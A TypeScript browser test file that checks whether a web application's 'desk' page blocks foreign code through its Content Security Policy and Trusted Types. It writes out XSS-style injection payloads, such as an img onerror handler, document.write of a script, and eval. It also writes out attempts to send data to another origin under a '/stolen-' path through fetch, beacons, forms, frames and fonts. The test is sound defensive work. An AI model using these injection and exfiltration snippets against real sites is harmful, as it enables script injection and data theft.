/** Foreign code in the page of the desk, should it ever get there: the page's policy does not let it run or carry anything out. */
import { randomUUID } from 'node:crypto';
import { startOtherSite } from '../support/api/other-site';
import { useStack } from '../support/processes/stack';
import { useDesk } from './browser';
import { useStarted } from '../support/use-started';

const stack = useStack();
const other = useStarted(() => startOtherSite());
const desk = useDesk(stack, { mayGoWrong: true });

describe('foreign code in the page of the desk does not run', () => {
  /**
   * Done in the page by a timer of its own, so that the page's policy counts and not that of the test's tools. Where
   * nothing is reported it has run, and that is told after a while.
   */
  const attempt = (code: string): string => `new Promise((resolve) => {
    const reports = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      reports.push(effectiveDirective);
      // Whatever else would follow has had its turn by then.
      setTimeout(() => resolve({ reports, hasRun: 'hasRun' in globalThis }));
    });
    setTimeout(() => resolve({ reports, hasRun: 'hasRun' in globalThis }), 5_000);
    setTimeout(() => {
      try { ${code} } catch (error) { reports.push(error.name); }
    });
  })`;

  test.each([
    [
      'a script in the markup',
      `document.body.innerHTML = '<img src=x onerror="globalThis.hasRun = 1">'`,
      'require-trusted-types-for',
    ],
    [
      'markup beside what is there',
      `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
      'require-trusted-types-for',
    ],
    [
      'a document that is written',
      `document.write('<script>globalThis.hasRun = 1</script>')`,
      'require-trusted-types-for',
    ],
    ['markup that is parsed', `new DOMParser().parseFromString('<b>x</b>', 'text/html')`, 'require-trusted-types-for'],
    [
      'a frame with markup of its own',
      `document.createElement('iframe').srcdoc = '<b>x</b>'`,
      'require-trusted-types-for',
    ],
    ['a text that is evaluated', `globalThis.hasRun = eval('1')`, 'require-trusted-types-for'],
    ['a function made of a text', `globalThis.hasRun = new Function('return 1')()`, 'require-trusted-types-for'],
    [
      'a policy that would allow it',
      `trustedTypes.createPolicy('any', { createHTML: (text) => text })`,
      'trusted-types',
    ],
    [
      'a script element',
      `const script = document.createElement('script'); script.append('globalThis.hasRun = 1'); document.body.append(script)`,
      'require-trusted-types-for',
    ],
    ['a module', `import('data:text/javascript,globalThis.hasRun = 1').catch(() => undefined)`, 'script-src-elem'],
    ['an inline style', `document.body.setAttribute('style', 'display: none')`, 'style-src-attr'],
    [
      'a style element',
      `const style = document.createElement('style'); style.append('* { display: none }'); document.body.append(style)`,
      'style-src-elem',
    ],
    [
      'another base for links',
      `const base = document.createElement('base'); base.href = 'https://elsewhere.example/'; document.head.append(base)`,
      'base-uri',
    ],
  ])('%s', async (_what, code, directive) => {
    const page = await desk.revisit('/desk', 'approver');
    await page.getByText('Choose a company').first().waitFor();
    const { reports, hasRun } = await page.evaluate<{ reports: string[]; hasRun: boolean }>(attempt(code));
    expect(reports).toContain(directive);
    expect(hasRun).toBe(false);
  });

  test.each([
    ['an image', (to: string) => `new Image().src = '${to}'`, 'img-src'],
    ['a request', (to: string) => `fetch('${to}', { mode: 'no-cors' }).catch(() => undefined)`, 'connect-src'],
    ['a beacon', (to: string) => `navigator.sendBeacon('${to}', 'x')`, 'connect-src'],
    [
      'a form',
      (to: string) =>
        `const form = document.createElement('form'); form.action = '${to}'; document.body.append(form); form.submit()`,
      'form-action',
    ],
    [
      'a frame',
      (to: string) =>
        `const frame = document.createElement('iframe'); frame.src = '${to}'; document.body.append(frame)`,
      'frame-src',
    ],
    ['a font', (to: string) => `new FontFace('x', 'url(${to})').load().catch(() => undefined)`, 'font-src'],
  ])('and carries nothing to another origin by %s', async (_what, code, directive) => {
    const page = await desk.revisit('/desk', 'approver');
    await page.getByText('Choose a company').first().waitFor();
    const path = `/stolen-${randomUUID()}`;
    const { reports } = await page.evaluate<{ reports: string[] }>(attempt(code(other.neighbour + path)));
    expect(reports).toContain(directive);
    expect(other.calls.map((call) => call.path)).not.toContain(path);
  });
});
